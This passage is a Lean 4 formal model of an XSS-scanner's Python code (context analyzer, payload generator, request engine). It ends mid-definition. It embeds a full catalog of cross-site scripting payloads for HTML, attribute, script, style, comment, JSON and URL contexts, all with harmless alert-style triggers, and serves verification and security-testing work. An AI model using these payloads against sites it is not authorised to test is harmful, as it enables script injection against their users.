import Mathlib

/-!
Verification of the XSS-Scanner repository's detection pipeline.

The development shallowly embeds the Python sources:
  scanner/analyzer.py  (ContextAnalyzer: context classification)
  scanner/payloads.py  (PayloadGenerator: payload catalog, trigger rotation)
  scanner/engine.py    (XSSEngine: probe generator, request executor,
                        success oracle, per-parameter orchestration)

Strings are embedded as `List Char`.  Python regular expressions are
transcribed token-by-token into a small nondeterministic matcher
(`RTok` / `matchPre` / `reSearch`): for the question "does `re.search`
succeed" the lazy quantifiers `.*?` of the sources are equivalent to
greedy ones, so a single star token suffices.  Randomness
(`random.choice`, `random.choices`) is embedded by passing the drawn
index / an index stream explicitly.  Network I/O is embedded as an
explicit transport outcome.
-/

namespace XSSScanner

/-- Strings of the embedded program. -/
abbrev Str := List Char

/-- Conversion from Lean string literals to the embedded string type. -/
def s2l (s : String) : Str := s.toList

/-- Python `str.lower()` (all source inputs are ASCII). -/
def lowerStr (s : Str) : Str := s.map Char.toLower

/-- Python's substring test `needle in hay` (`True` for the empty needle). -/
def isSubstr (needle hay : Str) : Bool :=
  hay.tails.any (fun t => needle.isPrefixOf t)

/-- Python regex class `\s` over ASCII: space, tab, newline, CR, VT, FF. -/
def pySpace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Python `str.strip()` (ASCII whitespace). -/
def pyStrip (s : Str) : Str :=
  ((s.dropWhile pySpace).reverse.dropWhile pySpace).reverse

/-- Matches any character: transcribes `.` under `re.DOTALL`. -/
def anyChar (_ : Char) : Bool := true

/-- Matches any character except a newline: transcribes `.` without `re.DOTALL`. -/
def notNL (c : Char) : Bool := c != '\n'

/-- A quote character, the class `["\']`. -/
def isQuote (c : Char) : Bool := c == '"' || c == '\''

/-- Regex tokens used to transcribe the source's patterns.
`lit`/`litCI` are literals (case-sensitive / under `re.IGNORECASE`);
`one p` is a single-character class; `star p` is `p*` (equivalently the
lazy `p*?`, since only the existence of a match is consumed);
`opt p` is `p?`; `clsOrEnd p` transcribes `(?:p|$)` — the sources use it
only with `\s ⊆ p`, so the `$`-before-final-newline case of Python's `$`
is subsumed by consuming the newline. -/
inductive RTok
  | lit (s : Str)
  | litCI (s : Str)
  | one (p : Char → Bool)
  | star (p : Char → Bool)
  | opt (p : Char → Bool)
  | clsOrEnd (p : Char → Bool)

/-- Star matching with continuation `k`: succeed at the current position,
or consume one `p`-character and continue. -/
def starRun (p : Char → Bool) (k : Str → Bool) : Str → Bool
  | [] => k []
  | c :: s => k (c :: s) || (p c && starRun p k s)

/-- Does the token list match some prefix of `s`?  (Anchored at the start;
`re.search` is recovered by trying every start position, see `reSearch`.) -/
def matchPre : List RTok → Str → Bool
  | [], _ => true
  | RTok.lit l :: rest, s => l.isPrefixOf s && matchPre rest (s.drop l.length)
  | RTok.litCI l :: rest, s =>
      (lowerStr l).isPrefixOf (lowerStr s) && matchPre rest (s.drop l.length)
  | RTok.one p :: rest, s =>
      match s with
      | [] => false
      | c :: s' => p c && matchPre rest s'
  | RTok.opt p :: rest, s =>
      matchPre rest s ||
        (match s with
         | [] => false
         | c :: s' => p c && matchPre rest s')
  | RTok.clsOrEnd p :: rest, s =>
      match s with
      | [] => matchPre rest []
      | c :: s' => p c && matchPre rest s'
  | RTok.star p :: rest, s => starRun p (matchPre rest) s

/-- Python `re.search(pattern, s)`: the pattern matches starting at some
position of `s`. -/
def reSearch (pat : List RTok) (s : Str) : Bool :=
  s.tails.any (fun t => matchPre pat t)

/-- Does the token list match `s` exactly (consuming all of it)?  Used for
the spans produced by `re.finditer`. -/
def matchAll : List RTok → Str → Bool
  | [], s => s.isEmpty
  | RTok.lit l :: rest, s => l.isPrefixOf s && matchAll rest (s.drop l.length)
  | RTok.litCI l :: rest, s =>
      (lowerStr l).isPrefixOf (lowerStr s) && matchAll rest (s.drop l.length)
  | RTok.one p :: rest, s =>
      match s with
      | [] => false
      | c :: s' => p c && matchAll rest s'
  | RTok.opt p :: rest, s =>
      matchAll rest s ||
        (match s with
         | [] => false
         | c :: s' => p c && matchAll rest s')
  | RTok.clsOrEnd p :: rest, s =>
      match s with
      | [] => matchAll rest []
      | c :: s' => p c && matchAll rest s'
  | RTok.star p :: rest, s => starRun p (matchAll rest) s

/-! ## scanner/analyzer.py -/

/-- analyzer.py lines 12-25: the closed enumeration of injection contexts. -/
inductive InjectionContext
  | HTML_TEXT
  | ATTR_VALUE_DOUBLE_QUOTE
  | ATTR_VALUE_SINGLE_QUOTE
  | ATTR_VALUE_NO_QUOTE
  | ATTR_NAME
  | SCRIPT_BLOCK
  | SCRIPT_STRING
  | STYLE_BLOCK
  | HTML_COMMENT
  | JSON_VALUE
  | URL_PARAM
deriving DecidableEq

/-- analyzer.py line 96: `<script[^>]*>.*?PROBE.*?</script>` with
`re.DOTALL | re.IGNORECASE` (the probe literal is matched
case-insensitively as well, since `re.IGNORECASE` is a whole-pattern flag). -/
def scriptPat (probe : Str) : List RTok :=
  [RTok.litCI (s2l "<script"), RTok.star (fun c => c != '>'), RTok.lit (s2l ">"),
   RTok.star anyChar, RTok.litCI probe, RTok.star anyChar,
   RTok.litCI (s2l "</script>")]

/-- analyzer.py line 105: `["\'].*?PROBE.*?["\']`, no flags (case-sensitive,
`.` does not cross newlines). -/
def jsStringPat (probe : Str) : List RTok :=
  [RTok.one isQuote, RTok.star notNL, RTok.lit probe, RTok.star notNL,
   RTok.one isQuote]

/-- analyzer.py line 114: `<style[^>]*>.*?PROBE.*?</style>` with
`re.DOTALL | re.IGNORECASE`. -/
def stylePat (probe : Str) : List RTok :=
  [RTok.litCI (s2l "<style"), RTok.star (fun c => c != '>'), RTok.lit (s2l ">"),
   RTok.star anyChar, RTok.litCI probe, RTok.star anyChar,
   RTok.litCI (s2l "</style>")]

/-- analyzer.py line 124: `<!--.*?PROBE.*?-->` with `re.DOTALL`, case-sensitive. -/
def commentPat (probe : Str) : List RTok :=
  [RTok.lit (s2l "<!--"), RTok.star anyChar, RTok.lit probe,
   RTok.star anyChar, RTok.lit (s2l "-->")]

/-- analyzer.py line 135: `="\s*[^"]*PROBE[^"]*"`, no flags. -/
def dqPat (probe : Str) : List RTok :=
  [RTok.lit (s2l "=\""), RTok.star pySpace, RTok.star (fun c => c != '"'),
   RTok.lit probe, RTok.star (fun c => c != '"'), RTok.lit (s2l "\"")]

/-- analyzer.py line 139: `='\s*[^']*PROBE[^']*'`, no flags. -/
def sqPat (probe : Str) : List RTok :=
  [RTok.lit (s2l "='"), RTok.star pySpace, RTok.star (fun c => c != '\''),
   RTok.lit probe, RTok.star (fun c => c != '\''), RTok.lit (s2l "'")]

/-- analyzer.py line 143: `=\s*PROBE(?:\s|[/>]|$)`, no flags. -/
def unqPat (probe : Str) : List RTok :=
  [RTok.lit (s2l "="), RTok.star pySpace, RTok.lit probe,
   RTok.clsOrEnd (fun c => pySpace c || c == '/' || c == '>')]

/-- analyzer.py line 147: `PROBE\s*=`, no flags. -/
def attrNamePat (probe : Str) : List RTok :=
  [RTok.lit probe, RTok.star pySpace, RTok.lit (s2l "=")]

/-- The class `[^"\'>\s]` of analyzer.py line 178. -/
def urlCls (c : Char) : Bool :=
  !(c == '"' || c == '\'' || c == '>' || pySpace c)

/-- analyzer.py line 178:
`ATTR\s*=\s*["\']?[^"\'>\s]*PROBE[^"\'>\s]*["\']?` with `re.IGNORECASE`. -/
def urlPat (attr : String) (probe : Str) : List RTok :=
  [RTok.litCI (s2l attr), RTok.star pySpace, RTok.lit (s2l "="),
   RTok.star pySpace, RTok.opt isQuote, RTok.star urlCls, RTok.litCI probe,
   RTok.star urlCls, RTok.opt isQuote]

/-- `ContextAnalyzer._detect_json` (analyzer.py lines 74-89).  The analyzer
stores `content_type.lower()` at construction; detectors here receive the
lowered content type from `detect_all`.  Note the source accepts any
start/end bracket combination, not only matching pairs. -/
def detect_json (html probe ct : Str) : Finset InjectionContext :=
  if isSubstr (s2l "json") ct then {InjectionContext.JSON_VALUE}
  else
    let stripped := pyStrip html
    if (stripped.head?.elim false (fun c => c == '{' || c == '[')) &&
       (stripped.getLast?.elim false (fun c => c == '}' || c == ']')) &&
       isSubstr probe stripped then
      {InjectionContext.JSON_VALUE}
    else ∅

/-- `ContextAnalyzer._detect_script_contexts` (analyzer.py lines 91-108).
The source iterates over the spans returned by `re.finditer` and searches
each span for a quoted occurrence of the probe; this is embedded as the
existence of a span of the body fully matching the script pattern in which
the inner quoted pattern matches. -/
def detect_script_contexts (html probe _ct : Str) : Finset InjectionContext :=
  if reSearch (scriptPat probe) html then
    if html.tails.any (fun t =>
        t.inits.any (fun w =>
          matchAll (scriptPat probe) w && reSearch (jsStringPat probe) w)) then
      {InjectionContext.SCRIPT_BLOCK, InjectionContext.SCRIPT_STRING}
    else {InjectionContext.SCRIPT_BLOCK}
  else ∅

/-- `ContextAnalyzer._detect_style_block` (analyzer.py lines 110-118). -/
def detect_style_block (html probe _ct : Str) : Finset InjectionContext :=
  if reSearch (stylePat probe) html then {InjectionContext.STYLE_BLOCK} else ∅

/-- `ContextAnalyzer._detect_html_comment` (analyzer.py lines 120-128). -/
def detect_html_comment (html probe _ct : Str) : Finset InjectionContext :=
  if reSearch (commentPat probe) html then {InjectionContext.HTML_COMMENT} else ∅

/-- `ContextAnalyzer._detect_attribute_contexts` (analyzer.py lines 130-150). -/
def detect_attribute_contexts (html probe _ct : Str) : Finset InjectionContext :=
  (if reSearch (dqPat probe) html then {InjectionContext.ATTR_VALUE_DOUBLE_QUOTE} else ∅) ∪
  (if reSearch (sqPat probe) html then {InjectionContext.ATTR_VALUE_SINGLE_QUOTE} else ∅) ∪
  (if reSearch (unqPat probe) html then {InjectionContext.ATTR_VALUE_NO_QUOTE} else ∅) ∪
  (if reSearch (attrNamePat probe) html then {InjectionContext.ATTR_NAME} else ∅)

/-- A character that can begin markup after `<` (tag name, close tag,
declaration, processing instruction) for the HTML tokenizer model. -/
def startsTagChar (c : Char) : Bool :=
  c.isAlpha || c == '/' || c == '!' || c == '?'

/-- Maximal text runs of the body, with tag markup (`<`…`>`) removed; a `<`
not followed by a markup-starting character is literal text.  Models the
text nodes that BeautifulSoup's `html.parser` produces for the simple
bodies the claims evaluate (in particular a tag-free body is one single
text node).  `inTag` is true while consuming a tag up to its `>`, `cur`
accumulates the current text run reversed. -/
def textNodesGo : Bool → Str → Str → List Str
  | _, cur, [] => [cur.reverse]
  | true, cur, c :: rest =>
      if c == '>' then textNodesGo false cur rest
      else textNodesGo true cur rest
  | false, cur, c :: rest =>
      if c == '<' && rest.head?.elim false startsTagChar then
        cur.reverse :: textNodesGo true [] rest
      else textNodesGo false (c :: cur) rest

/-- `ContextAnalyzer._detect_text_node` (analyzer.py lines 152-169): models
the BeautifulSoup path `soup.find(string=re.compile(re.escape(probe)))` —
some text node contains the probe.  The parser model is total, so the
source's regex fallback branch (taken only when parsing raises) is
unreachable here. -/
def detect_text_node (html probe _ct : Str) : Finset InjectionContext :=
  if (textNodesGo false [] html).any (fun t => isSubstr probe t) then
    {InjectionContext.HTML_TEXT}
  else ∅

/-- `ContextAnalyzer._detect_url_param` (analyzer.py lines 171-183). -/
def detect_url_param (html probe _ct : Str) : Finset InjectionContext :=
  if (["href", "src", "action", "data"] : List String).any
      (fun a => reSearch (urlPat a probe) html) then
    {InjectionContext.URL_PARAM}
  else ∅

/-- The seven detectors, in the order `detect_all` runs them
(analyzer.py lines 63-70). -/
def detectors : List (Str → Str → Str → Finset InjectionContext) :=
  [detect_json, detect_script_contexts, detect_style_block,
   detect_html_comment, detect_attribute_contexts, detect_text_node,
   detect_url_param]

/-- The `contexts.update(...)` accumulation of `detect_all`: union of the
detectors' contributions. -/
def runDetectors (ds : List (Str → Str → Str → Finset InjectionContext))
    (html probe ct : Str) : Finset InjectionContext :=
  ds.foldl (fun acc d => acc ∪ d html probe ct) ∅

/-- `ContextAnalyzer.detect_all` (analyzer.py lines 50-72): empty result if
the probe is absent from the body, otherwise the union of all detectors.
The source returns `list(contexts)` of a Python set; membership is what
matters, so the embedding returns the `Finset` itself. -/
def detect_all (html probe contentType : Str) : Finset InjectionContext :=
  if ¬ isSubstr probe html then ∅
  else runDetectors detectors html probe (lowerStr contentType)

/-! ## scanner/payloads.py -/

/-- payloads.py lines 27-34: the fixed trigger vocabulary `JS_TRIGGERS`. -/
def JS_TRIGGERS : List Str :=
  [s2l "alert(1)", s2l "alert(document.domain)", s2l "alert`1`",
   s2l "confirm(1)", s2l "prompt(1)", s2l "print()"]

/-- `PayloadGenerator.get_trigger` (payloads.py lines 73-76):
`random.choice(JS_TRIGGERS)`, embedded as indexing by an explicitly passed
draw `r` reduced modulo the list length (uniform choice over the six
entries). -/
def get_trigger (r : Nat) : Str := JS_TRIGGERS.getD (r % JS_TRIGGERS.length) []

/-- `PayloadGenerator._html_text_payloads` (payloads.py lines 251-262). -/
def html_text_payloads (t : Str) : List Str :=
  [s2l "<script>" ++ t ++ s2l "</script>",
   s2l "<img src=x onerror=" ++ t ++ s2l ">",
   s2l "<svg onload=" ++ t ++ s2l ">",
   s2l "<iframe src=javascript:" ++ t ++ s2l ">",
   s2l "<body onload=" ++ t ++ s2l ">",
   s2l "<details open ontoggle=" ++ t ++ s2l ">",
   s2l "<marquee onstart=" ++ t ++ s2l ">"]

/-- `PayloadGenerator._double_quote_payloads` (payloads.py lines 264-275). -/
def double_quote_payloads (t : Str) : List Str :=
  [s2l "\"><script>" ++ t ++ s2l "</script>",
   s2l "\" onload=\"" ++ t ++ s2l "\" x=\"",
   s2l "\" autofocus onfocus=\"" ++ t ++ s2l "\" x=\"",
   s2l "\" onclick=\"" ++ t ++ s2l "\" x=\"",
   s2l "\"><img src=x onerror=" ++ t ++ s2l ">",
   s2l "\"><svg onload=" ++ t ++ s2l ">",
   s2l "\" onerror=\"" ++ t ++ s2l "\" src=\"x"]

/-- `PayloadGenerator._single_quote_payloads` (payloads.py lines 277-287). -/
def single_quote_payloads (t : Str) : List Str :=
  [s2l "'><script>" ++ t ++ s2l "</script>",
   s2l "' onload='" ++ t ++ s2l "' x='",
   s2l "' autofocus onfocus='" ++ t ++ s2l "' x='",
   s2l "' onclick='" ++ t ++ s2l "' x='",
   s2l "'><img src=x onerror=" ++ t ++ s2l ">",
   s2l "'><svg onload=" ++ t ++ s2l ">"]

/-- `PayloadGenerator._unquoted_attr_payloads` (payloads.py lines 289-298). -/
def unquoted_attr_payloads (t : Str) : List Str :=
  [s2l " onload=" ++ t ++ s2l " x=",
   s2l " onclick=" ++ t ++ s2l " x=",
   s2l " onfocus=" ++ t ++ s2l " autofocus x=",
   s2l "><script>" ++ t ++ s2l "</script>",
   s2l "><img src=x onerror=" ++ t ++ s2l ">"]

/-- `PayloadGenerator._attr_name_payloads` (payloads.py lines 300-308). -/
def attr_name_payloads (t : Str) : List Str :=
  [s2l " onload=" ++ t ++ s2l " ",
   s2l " onclick=" ++ t ++ s2l " ",
   s2l " onfocus=" ++ t ++ s2l " autofocus ",
   s2l "><script>" ++ t ++ s2l "</script><x "]

/-- `PayloadGenerator._script_block_payloads` (payloads.py lines 310-320). -/
def script_block_payloads (t : Str) : List Str :=
  [s2l ";" ++ t ++ s2l "//",
   s2l ";" ++ t ++ s2l "/*",
   s2l "</script><script>" ++ t ++ s2l "</script><script>",
   s2l "';" ++ t ++ s2l "//",
   s2l "\";" ++ t ++ s2l "//",
   s2l "-" ++ t ++ s2l "//"]

/-- `PayloadGenerator._script_string_payloads` (payloads.py lines 322-331). -/
def script_string_payloads (t : Str) : List Str :=
  [s2l "';" ++ t ++ s2l "//",
   s2l "\";" ++ t ++ s2l "//",
   s2l "'-" ++ t ++ s2l "-'",
   s2l "\"-" ++ t ++ s2l "-\"",
   s2l "</script><script>" ++ t ++ s2l "</script><script>"]

/-- `PayloadGenerator._style_block_payloads` (payloads.py lines 333-340);
the Python f-string `}}` renders a single closing brace. -/
def style_block_payloads (t : Str) : List Str :=
  [s2l "</style><script>" ++ t ++ s2l "</script><style>",
   s2l "</style><img src=x onerror=" ++ t ++ s2l "><style>",
   s2l "\x7d </style><script>" ++ t ++ s2l "</script><style>"]

/-- `PayloadGenerator._html_comment_payloads` (payloads.py lines 342-349). -/
def html_comment_payloads (t : Str) : List Str :=
  [s2l "--><script>" ++ t ++ s2l "</script><!--",
   s2l "--><img src=x onerror=" ++ t ++ s2l "><!--",
   s2l "--><svg onload=" ++ t ++ s2l "><!--"]

/-- `PayloadGenerator._json_payloads` (payloads.py lines 351-358); the
Python literals render `\"` as backslash-quote and `}}}}` as two closing
braces. -/
def json_payloads (t : Str) : List Str :=
  [s2l "\\\"><script>" ++ t ++ s2l "</script>",
   s2l "\\\"\x7d\x7d<script>" ++ t ++ s2l "</script>",
   s2l "\\u003cscript\\u003e" ++ t ++ s2l "\\u003c/script\\u003e"]

/-- `PayloadGenerator._url_param_payloads` (payloads.py lines 360-369). -/
def url_param_payloads (t : Str) : List Str :=
  [s2l "javascript:" ++ t,
   s2l "data:text/html,<script>" ++ t ++ s2l "</script>",
   s2l "javascript:void(" ++ t ++ s2l ")",
   s2l "\" onload=" ++ t ++ s2l " x=\"",
   s2l "' onload=" ++ t ++ s2l " x='"]

/-- The `payload_map` dictionary of `PayloadGenerator.generate`
(payloads.py lines 228-240), embedded as the dictionary's lookup
(`payload_map.get(context)`). -/
def payload_map : InjectionContext → Option (Str → List Str) := fun ctx =>
  match ctx with
  | InjectionContext.HTML_TEXT => some html_text_payloads
  | InjectionContext.ATTR_VALUE_DOUBLE_QUOTE => some double_quote_payloads
  | InjectionContext.ATTR_VALUE_SINGLE_QUOTE => some single_quote_payloads
  | InjectionContext.ATTR_VALUE_NO_QUOTE => some unquoted_attr_payloads
  | InjectionContext.ATTR_NAME => some attr_name_payloads
  | InjectionContext.SCRIPT_BLOCK => some script_block_payloads
  | InjectionContext.SCRIPT_STRING => some script_string_payloads
  | InjectionContext.STYLE_BLOCK => some style_block_payloads
  | InjectionContext.HTML_COMMENT => some html_comment_payloads
  | InjectionContext.JSON_VALUE => some json_payloads
  | InjectionContext.URL_PARAM => some url_param_payloads

/-- payloads.py line 243: the traditional payloads for a context —
`generator(trigger) if generator else [f"<script>{trigger}</script>"]`
(the `else` branch is the single generic fallback for a context missing
from the map). -/
def traditionalFor (ctx : InjectionContext) (trigger : Str) : List Str :=
  match payload_map ctx with
  | some g => g trigger
  | none => [s2l "<script>" ++ trigger ++ s2l "</script>"]

/-- Python `list(dict.fromkeys(l))`: deduplication keeping first
occurrences (payloads.py line 205). -/
def pyUniqueAux (seen : List Str) : List Str → List Str
  | [] => []
  | x :: xs =>
      if x ∈ seen then pyUniqueAux seen xs
      else x :: pyUniqueAux (x :: seen) xs

/-- `PayloadGenerator.generate_ai_payloads` (payloads.py lines 78-211),
embedded at its interface: `[]` when the collaborator is disabled or its
reply is missing/raises, otherwise the cleaned reply lines deduplicated
and truncated to at most 5 (`list(dict.fromkeys(payloads))[:5]`).
In the source, `generate` invokes this helper with positionally swapped
arguments (`cls.generate_ai_payloads(context, html_snippet)` against the
signature `(param_name, context, ...)`), so the guarded body raises inside
its `try` and the helper returns `[]`; either way the result is what
`generate` appends after the fixed templates. -/
def generate_ai_payloads (enabled : Bool) (reply : Option (List Str)) : List Str :=
  if enabled then
    match reply with
    | some lines => (pyUniqueAux [] lines).take 5
    | none => []
  else []

/-- `PayloadGenerator.generate` (payloads.py lines 213-249): draws the
trigger once for this call, selects the context's fixed template list
(generic single-template fallback on a lookup miss), and appends the AI
payloads after it. -/
def generate (r : Nat) (ctx : InjectionContext) (enabled : Bool)
    (reply : Option (List Str)) : List Str :=
  let trigger := get_trigger r
  traditionalFor ctx trigger ++ generate_ai_payloads enabled reply

/-- The per-context template shapes: each fixed payload as a function of
the trigger.  This is the spec's reading of the catalog ("deterministic in
template structure; only the trigger call varies"); `traditionalFor_eq_map`
below proves it against the source lists. -/
def templateShapes : InjectionContext → List (Str → Str) := fun ctx =>
  match ctx with
  | InjectionContext.HTML_TEXT =>
      [fun t => s2l "<script>" ++ t ++ s2l "</script>",
       fun t => s2l "<img src=x onerror=" ++ t ++ s2l ">",
       fun t => s2l "<svg onload=" ++ t ++ s2l ">",
       fun t => s2l "<iframe src=javascript:" ++ t ++ s2l ">",
       fun t => s2l "<body onload=" ++ t ++ s2l ">",
       fun t => s2l "<details open ontoggle=" ++ t ++ s2l ">",
       fun t => s2l "<marquee onstart=" ++ t ++ s2l ">"]
  | InjectionContext.ATTR_VALUE_DOUBLE_QUOTE =>
      [fun t => s2l "\"><script>" ++ t ++ s2l "</script>",
       fun t => s2l "\" onload=\"" ++ t ++ s2l "\" x=\"",
       fun t => s2l "\" autofocus onfocus=\"" ++ t ++ s2l "\" x=\"",
       fun t => s2l "\" onclick=\"" ++ t ++ s2l "\" x=\"",
       fun t => s2l "\"><img src=x onerror=" ++ t ++ s2l ">",
       fun t => s2l "\"><svg onload=" ++ t ++ s2l ">",
       fun t => s2l "\" onerror=\"" ++ t ++ s2l "\" src=\"x"]
  | InjectionContext.ATTR_VALUE_SINGLE_QUOTE =>
      [fun t => s2l "'><script>" ++ t ++ s2l "</script>",
       fun t => s2l "' onload='" ++ t ++ s2l "' x='",
       fun t => s2l "' autofocus onfocus='" ++ t ++ s2l "' x='",
       fun t => s2l "' onclick='" ++ t ++ s2l "' x='",
       fun t => s2l "'><img src=x onerror=" ++ t ++ s2l ">",
       fun t => s2l "'><svg onload=" ++ t ++ s2l ">"]
  | InjectionContext.ATTR_VALUE_NO_QUOTE =>
      [fun t => s2l " onload=" ++ t ++ s2l " x=",
       fun t => s2l " onclick=" ++ t ++ s2l " x=",
       fun t => s2l " onfocus=" ++ t ++ s2l " autofocus x=",
       fun t => s2l "><script>" ++ t ++ s2l "</script>",
       fun t => s2l "><img src=x onerror=" ++ t ++ s2l ">"]
  | InjectionContext.ATTR_NAME =>
      [fun t => s2l " onload=" ++ t ++ s2l " ",
       fun t => s2l " onclick=" ++ t ++ s2l " ",
       fun t => s2l " onfocus=" ++ t ++ s2l " autofocus ",
       fun t => s2l "><script>" ++ t ++ s2l "</script><x "]
  | InjectionContext.SCRIPT_BLOCK =>
      [fun t => s2l ";" ++ t ++ s2l "//",
       fun t => s2l ";" ++ t ++ s2l "/*",
       fun t => s2l "</script><script>" ++ t ++ s2l "</script><script>",
       fun t => s2l "';" ++ t ++ s2l "//",
       fun t => s2l "\";" ++ t ++ s2l "//",
       fun t => s2l "-" ++ t ++ s2l "//"]
  | InjectionContext.SCRIPT_STRING =>
      [fun t => s2l "';" ++ t ++ s2l "//",
       fun t => s2l "\";" ++ t ++ s2l "//",
       fun t => s2l "'-" ++ t ++ s2l "-'",
       fun t => s2l "\"-" ++ t ++ s2l "-\"",
       fun t => s2l "</script><script>" ++ t ++ s2l "</script><script>"]
  | InjectionContext.STYLE_BLOCK =>
      [fun t => s2l "</style><script>" ++ t ++ s2l "</script><style>",
       fun t => s2l "</style><img src=x onerror=" ++ t ++ s2l "><style>",
       fun t => s2l "\x7d </style><script>" ++ t ++ s2l "</script><style>"]
  | InjectionContext.HTML_COMMENT =>
      [fun t => s2l "--><script>" ++ t ++ s2l "</script><!--",
       fun t => s2l "--><img src=x onerror=" ++ t ++ s2l "><!--",
       fun t => s2l "--><svg onload=" ++ t ++ s2l "><!--"]
  | InjectionContext.JSON_VALUE =>
      [fun t => s2l "\\\"><script>" ++ t ++ s2l "</script>",
       fun t => s2l "\\\"\x7d\x7d<script>" ++ t ++ s2l "</script>",
       fun t => s2l "\\u003cscript\\u003e" ++ t ++ s2l "\\u003c/script\\u003e"]
  | InjectionContext.URL_PARAM =>
      [fun t => s2l "javascript:" ++ t,
       fun t => s2l "data:text/html,<script>" ++ t ++ s2l "</script>",
       fun t => s2l "javascript:void(" ++ t ++ s2l ")",
       fun t => s2l "\" onload=" ++ t ++ s2l " x=\"",
       fun t => s2l "' onload=" ++ t ++ s2l " x='"]

/-- The fixed template lists are exactly the template shapes applied to the
single trigger of the call: the structure is deterministic, only the
trigger substitution varies. -/
theorem traditionalFor_eq_map (ctx : InjectionContext) (t : Str) :
    traditionalFor ctx t = (templateShapes ctx).map (fun f => f t) := by
  cases ctx <;> rfl

/-- The payload lists `scan_parameter` would obtain for the detected
contexts of one parameter: one `generate` call per context, each with its
own fresh random draw (`stream i` is the i-th draw of the run), as in
engine.py lines 249-256 / payloads.py line 226. -/
def contextPayloadLists (stream : Nat → Nat) (ctxs : List InjectionContext) :
    List (List Str) :=
  (List.range ctxs.length).zip ctxs |>.map
    (fun pr => generate (stream pr.1) pr.2 false none)

/-! ## scanner/engine.py -/

/-- `string.ascii_uppercase + string.digits` (engine.py line 63). -/
def probeAlphabet : Str := s2l "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

/-- `XSSEngine._generate_probe` (engine.py lines 61-64):
`"XSS_PROBE_" + ''.join(random.choices(alphabet, k=12))`, embedded with an
explicit stream of draws (`stream i` is the i-th draw, reduced modulo the
36-character alphabet).  Total: it never fails. -/
def generate_probe (stream : Nat → Nat) : Str :=
  s2l "XSS_PROBE_" ++
    (List.range 12).map (fun i => probeAlphabet.getD (stream i % probeAlphabet.length) 'A')

/-- An HTTP response as the engine consumes it: body text, Content-Type
header, final URL. -/
structure HttpResponse where
  text : Str
  contentType : Str
  url : Str

/-- The transport outcome of one request: a response, a timeout
(`requests.exceptions.Timeout`), or a generic transport failure
(`requests.exceptions.RequestException`). -/
inductive TransportOutcome
  | success (resp : HttpResponse)
  | timeout
  | failure (msg : Str)

/-- `XSSEngine._send_request` (engine.py lines 114-144): returns the
response, and `None` for both failure kinds (the except branches only
log). -/
def send_request (t : TransportOutcome) : Option HttpResponse :=
  match t with
  | TransportOutcome.success resp => some resp
  | TransportOutcome.timeout => none
  | TransportOutcome.failure _ => none

/-- First index of `needle` in `hay`, Python `str.find` (engine.py line 79)
with `-1` embedded as `none`. -/
def findSub (needle hay : Str) : Option Nat :=
  hay.tails.findIdx? (fun t => needle.isPrefixOf t)

/-- `XSSEngine._extract_snippet` / `_extract_broader_context`
(engine.py lines 66-112): the slice of `contextChars` characters around
the probe, `""` when the probe is absent. -/
def extract_snippet (html probe : Str) (contextChars : Nat) : Str :=
  match findSub probe html with
  | none => []
  | some i =>
      let start := i - contextChars
      (html.drop start).take (i + probe.length + contextChars - start)

/-- `XSSEngine._test_reflection` (engine.py lines 146-182): `none` when the
request failed, the probe is absent, or no context was detected; otherwise
the probe, the response, the detected contexts (as the list the source
gets from `detect_all`) and the two AI snippets. -/
def test_reflection (t : TransportOutcome) (probe : Str)
    (listing : Finset InjectionContext → List InjectionContext) :
    Option (Str × HttpResponse × List InjectionContext × Str × Str) :=
  match send_request t with
  | none => none
  | some resp =>
      if ¬ isSubstr probe resp.text then none
      else
        let ctxs := detect_all resp.text probe resp.contentType
        if ctxs = ∅ then none
        else some (probe, resp, listing ctxs,
                   extract_snippet resp.text probe 200,
                   extract_snippet resp.text probe 500)

/-- engine.py lines 199-202: the fixed success-indicator vocabulary of
`_test_payload`. -/
def engineTriggers : List Str :=
  [s2l "alert(", s2l "alert`", s2l "confirm(", s2l "prompt(", s2l "print(",
   s2l "onerror=", s2l "onload=", s2l "onfocus=", s2l "onclick="]

/-- Python `payload.replace('"', '&quot;')` (engine.py line 207). -/
def replaceQuot : Str → Str
  | [] => []
  | c :: rest =>
      if c = '"' then s2l "&quot;" ++ replaceQuot rest
      else c :: replaceQuot rest

/-- The success decision of `XSSEngine._test_payload`
(engine.py lines 198-210): some lowered trigger token occurs in the
lowered body, AND (the payload occurs verbatim in the body OR its
`&quot;`-encoded form is absent from the body). -/
def isExploited (body payload : Str) : Bool :=
  if engineTriggers.any (fun tr => isSubstr (lowerStr tr) (lowerStr body)) then
    isSubstr payload body || ! isSubstr (replaceQuot payload) body
  else false

/-- `XSSEngine._test_payload` (engine.py lines 184-210): `none` when the
request failed or the oracle declines, otherwise the exploit URL. -/
def test_payload (t : TransportOutcome) (payload : Str) : Option Str :=
  match send_request t with
  | none => none
  | some resp => if isExploited resp.text payload then some resp.url else none

/-- The payload loop of `scan_parameter` for one context
(engine.py lines 265-286): test payloads in list order, stop at the first
success (`break`); `oracle p` is the outcome of `_test_payload` for
payload `p` (`none` both for "request failed" and "not exploited"). -/
def testContextLoop (oracle : Str → Option Str) : List Str → Option (Str × Str)
  | [] => none
  | p :: rest =>
      match oracle p with
      | some url => some (p, url)
      | none => testContextLoop oracle rest

/-- Parameter names declared by `PayloadGenerator.generate`
(payloads.py line 214), beyond the implicit `cls`. -/
def generateDeclaredParams : List Str := [s2l "context", s2l "html_snippet"]

/-- Keyword arguments the engine passes at the `generate` call site
(engine.py lines 251-256). -/
def engineGenerateCallKeywords : List Str :=
  [s2l "context", s2l "param_name", s2l "html_snippet", s2l "response_snippet"]

/-- Python's keyword-call rule for a function without `**kwargs`: the call
binds only if every keyword names a declared parameter; otherwise it
raises `TypeError: got an unexpected keyword argument`. -/
def keywordCallOk (declared kwargs : List Str) : Bool :=
  kwargs.all (fun k => declared.contains k)

/-- The engine's call `PayloadGenerator.generate(context=..., param_name=...,
html_snippet=..., response_snippet=...)` (engine.py lines 251-256) under
Python call semantics: `TypeError` when a keyword is not declared by
`generate`, otherwise the generated payload list. -/
def engineGenerate (r : Nat) (ctx : InjectionContext) : Except Str (List Str) :=
  if keywordCallOk generateDeclaredParams engineGenerateCallKeywords then
    Except.ok (generate r ctx false none)
  else
    Except.error (s2l "TypeError: generate() got an unexpected keyword argument")

/-- A recorded finding: (context, successful payload, exploit URL) for the
parameter under scan (the parameter name is fixed per `scan_parameter`
invocation). -/
abbrev Finding := InjectionContext × Str × Str

/-- The per-context loop of `XSSEngine.scan_parameter`
